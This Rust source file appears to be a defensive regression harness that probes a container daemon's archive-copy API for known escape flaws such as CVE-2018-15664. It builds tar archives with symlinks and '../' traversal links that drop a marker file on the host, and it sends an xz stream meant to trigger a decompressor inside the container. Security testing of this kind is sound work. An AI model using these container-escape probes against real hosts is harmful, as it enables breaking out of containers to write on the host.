//! Copying files: where the daemon works inside a container's files with its own rights.

use anyhow::Result;

use crate::case::{Case, Run, Verdict};
use crate::runner::fresh;
use crate::target::fixture::VICTIM;
use crate::target::{Endpoint, Who};

pub(super) const CASES: &[Case] = &[
    Case {
        id: "CVE-2026-41567",
        title: "the container's own decompressor, run on the host",
        sends: "`PUT …/archive` of an xz stream as operator, the image holding an `xz`",
        run: Run::Call(compressed),
    },
    Case {
        id: "CVE-2026-41568",
        title: "files made on the host while mount points move",
        sends: "`GET …/archive` of a running container with a volume as operator",
        run: Run::Call(|endpoint| race(endpoint, "GET")),
    },
    Case {
        id: "CVE-2026-42306",
        title: "a volume mounted on the host while mount points move",
        sends: "`HEAD …/archive` of the same",
        run: Run::Call(|endpoint| race(endpoint, "HEAD")),
    },
    Case {
        id: "CVE-2018-15664",
        title: "a link that leads out of the container",
        sends: "a link to / copied in, then a file copied in through it",
        run: Run::Call(link),
    },
    Case {
        id: "CVE-2019-14271",
        title: "code of the container loaded by the daemon while it copies",
        sends: "-",
        run: Run::Tests(
            "e2e: files_hostile::*; nothing of a container is loaded or executed: archives are read and written by the daemon's own code (openat2)",
        ),
    },
];

/// A daemon with the flaw looks for the program in the container's files: it executes it, or says that
/// it found none.
fn compressed(endpoint: &Endpoint) -> Result<Verdict> {
    let path = format!("/containers/{VICTIM}/archive?path=/tmp");
    let xz = b"\xfd7zXZ\0\0\x04\xe6\xd6\xb4\x46\0\0\0\0";
    let answer = endpoint.ask_as(Who::Operator, "PUT", &path, "application/x-tar", Some(xz))?;
    let said = answer.text();
    let version = endpoint.ask(Who::Admin, "GET", "/version", None)?.json();
    let tried = said.contains("executable file") || said.contains("exit status");
    let tried = tried || (answer.is_success() && flawed(&version));
    Ok(if tried {
        Verdict::leaked(format!(
            "the stream went to a decompressor: {}",
            answer.summary()
        ))
    } else {
        Verdict::refused(answer.summary())
    })
}

/// Our own engine copies without following mount points by path, so there an answer is no leak; a
/// stock daemon with the flaw has it whenever it answers.
fn race(endpoint: &Endpoint, method: &str) -> Result<Verdict> {
    let version = endpoint.ask(Who::Admin, "GET", "/version", None)?.json();
    let path = format!("/containers/{VICTIM}/archive?path=/etc/hostname");
    let answer = endpoint.ask(Who::Operator, method, &path, None)?;
    if !answer.is_success() {
        return Ok(Verdict::refused(answer.summary()));
    }
    Ok(if flawed(&version) {
        Verdict::leaked(format!("{} by a version with the flaw", answer.status))
    } else {
        Verdict::refused(format!("{} by code without the flaw", answer.status))
    })
}

/// Docker Engine before 29.5.1.
fn flawed(version: &serde_json::Value) -> bool {
    let engine = version["Platform"]["Name"].as_str().unwrap_or_default();
    let is_docker = !engine.contains("Lockgate") && !version.to_string().contains("Podman Engine");
    let numbers: Vec<u32> = version["Version"]
        .as_str()
        .unwrap_or_default()
        .split(|c: char| !c.is_ascii_digit())
        .filter_map(|part| part.parse().ok())
        .take(3)
        .collect();
    is_docker && numbers < vec![29, 5, 1]
}

/// A tar entry of one file or link.
fn tar(name: &str, link: Option<&str>, content: &[u8]) -> Vec<u8> {
    let mut head = [0_u8; 512];
    let mut put = |at: usize, text: &[u8]| {
        if let Some(place) = head.get_mut(at..at + text.len()) {
            place.copy_from_slice(text);
        }
    };
    put(0, name.as_bytes());
    put(100, b"0000644\0");
    put(108, b"0000000\0");
    put(116, b"0000000\0");
    put(124, format!("{:011o}\0", content.len()).as_bytes());
    put(136, b"00000000000\0");
    put(148, b"        ");
    put(156, if link.is_some() { b"2" } else { b"0" });
    put(157, link.unwrap_or_default().as_bytes());
    put(257, b"ustar\x0000");
    let sum: u32 = head.iter().map(|byte| u32::from(*byte)).sum();
    if let Some(place) = head.get_mut(148..156) {
        place.copy_from_slice(format!("{sum:06o}\0 ").as_bytes());
    }
    let mut bytes = head.to_vec();
    bytes.extend(content);
    bytes.resize(bytes.len().next_multiple_of(512), 0);
    bytes.resize(bytes.len() + 1024, 0);
    bytes
}

/// The mark would lie in the /tmp of the daemon's host, which is ours too.
fn link(endpoint: &Endpoint) -> Result<Verdict> {
    let mark = fresh();
    let name = fresh();
    let create = format!("/containers/create?name={name}");
    let body = r#"{"Image":"busybox","HostConfig":{"NetworkMode":"none"}}"#;
    endpoint.ask(Who::Operator, "POST", &create, Some(body))?;
    let put = |path: &str, archive: &[u8]| {
        let path = format!("/containers/{name}/archive?path={path}");
        endpoint.ask_as(
            Who::Operator,
            "PUT",
            &path,
            "application/x-tar",
            Some(archive),
        )
    };
    put("/", &tar("out", Some("/tmp"), b""))?;
    put("/", &tar(&format!("out/{mark}"), None, b"mark"))?;
    let answer = put("/out", &tar(&mark, None, b"mark"))?;
    put("/", &tar("up", Some("../../../../../../../../tmp"), b""))?;
    put("/up", &tar(&mark, None, b"mark"))?;
    endpoint.remove(&name)?;
    let outside = std::path::Path::new("/tmp").join(&mark);
    if outside.exists() {
        std::fs::remove_file(outside)?;
        return Ok(Verdict::leaked("a file on the host"));
    }
    Ok(Verdict::refused(format!(
        "{} inside the container",
        answer.status
    )))
}
